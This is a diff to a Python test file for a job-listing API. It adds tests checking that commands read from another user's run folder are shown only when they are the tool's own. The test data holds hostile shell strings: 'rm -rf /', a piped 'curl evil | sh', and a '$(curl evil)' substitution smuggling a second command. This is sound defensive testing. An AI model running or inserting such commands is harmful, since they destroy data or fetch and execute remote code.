@@ -63,8 +63,27 @@ class TestAFolderOfSomebodyElse:
         [row] = asked.client.get("/api/jobs").json()["data"]
         assert len(row["what"]) <= 300
         assert "\x1b" not in row["what"]
-        assert (row["command"], row["evaluation"], row["other"], row["ended"]) == ("rm -rf /", None, "", None)
+        assert (row["command"], row["evaluation"], row["other"], row["ended"]) == ("", None, "", None)
         assert str(run.path) not in json.dumps(row)
+
+    @pytest.mark.parametrize(
+        ("told", "shown"),
+        [
+            ("cutaway analyze 'my run' map --evaluation 0", "cutaway analyze 'my run' map --evaluation 0"),
+            ("cutaway analyze x; curl evil | sh", ""),
+            ("cutaway analyze $(curl evil)", ""),
+            ("cutaway analyze 'x", ""),
+            ("curl evil", ""),
+        ],
+    )
+    def test_a_command_to_copy_is_one_of_ours(self, asked: Asked, run: Run, told: str, shown: str) -> None:
+        _write(run, command=told)
+        [row] = asked.client.get("/api/jobs").json()["data"]
+        assert row["command"] == shown
+
+    def test_one_from_the_future_keeps_nobody_from_starting_the_same(self, asked: Asked, run: Run) -> None:
+        _write(run, created=time.time() + 1e9)
+        assert [one["state"] for one in asked.client.get("/api/jobs").json()["data"]] == ["lost"]
 
     def test_numbers_that_are_none_harm_nobody(self, asked: Asked, run: Run) -> None:
         _write(run, created=float("nan"))
@@ -106,6 +125,35 @@ class TestAnotherMachine:
             assert states == ["running", "running", "running", "lost", "running"]
         finally:
             index.close()
+
+    def test_one_that_is_lost_stays_so_when_jobs_of_another_run_are_looked_at(self, run: Run) -> None:
+        now = 0.0
+        Run.create(run.path.parent / "other")
+        index = RunIndex(run.path.parent, cache=False).start()
+        try:
+            listing = Listing(index, clock=lambda: now)
+            _write(run)
+            _write(run, name="process.json", **ELSEWHERE)
+            listing.jobs()
+            now += 100.0
+            assert [one.state for one in listing.jobs()] == ["lost"]
+            other = next(row.id for row in index.table().rows if row.name == "other")
+            listing.jobs(other)
+            assert [one.state for one in listing.jobs()] == ["lost"]
+        finally:
+            index.close()
+
+    def test_those_that_run_there_take_no_place_here(self, asked: Asked, run: Run) -> None:
+        for number in range(3):
+            _write(run, f"20200101-000000-{number:08x}")
+            _write(run, f"20200101-000000-{number:08x}", "process.json", **ELSEWHERE)
+        assert {one["state"] for one in asked.client.get("/api/jobs").json()["data"]} == {"running"}
+        assert asked.studio.jobs._count() == 0
+
+    def test_one_that_waits_there_can_be_cancelled_here(self, asked: Asked, run: Run) -> None:
+        _write(run)
+        answer = asked.client.post(f"/api/jobs/{JOB}/cancel", json={}).json()["data"]
+        assert answer["state"] == "cancelled"
 
     def test_one_that_waits_there_is_given_up_after_a_day(self, asked: Asked, run: Run) -> None:
         _write(run)
